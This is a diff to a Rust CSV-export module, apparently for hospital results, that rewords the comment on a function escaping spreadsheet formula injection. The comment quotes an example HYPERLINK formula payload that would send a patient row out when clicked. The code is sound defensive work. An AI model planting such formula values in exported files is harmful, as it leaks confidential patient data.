@@ -121,14 +121,15 @@ pub fn write_results(
     writer.flush().map_err(|e| format!("output: {e}"))
 }
 
-/// A cell that opens in a spreadsheet as the text it holds. Excel and
-/// LibreOffice run a cell starting with `=`, `+`, `-`, `@`, a tab or a
-/// carriage return as a formula, so a patient id from a hostile or
-/// mistyped file (`=HYPERLINK("https://…?"&B2, "open")`) could show
-/// another value or send the row out of the hospital when clicked
-/// (hazard H22). Such a cell is written after an apostrophe, a
-/// spreadsheet's mark for text; a number (`-150`, a percentage that
-/// worsened) is written as it is.
+/// A cell that opens in a spreadsheet as the text it holds. A spreadsheet
+/// runs a cell starting with `=` as a formula (LibreOffice Calc shows
+/// `=1+1` as 2), and by the OWASP guidance on CSV injection Excel also one
+/// starting with `+`, `-`, `@`, a tab or a carriage return. So a patient
+/// id from a hostile or mistyped file (`=HYPERLINK("https://…?"&B2,
+/// "open")`) could show another value, or send the row out of the
+/// hospital when clicked (hazard H22). Such a cell is written after an
+/// apostrophe, a spreadsheet's mark for text; a number (`-150`, a
+/// percentage that worsened) is written as it is.
 fn shown_not_run(cell: &str) -> Cow<'_, str> {
     let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
     if runs && !is_plain_number(cell) {
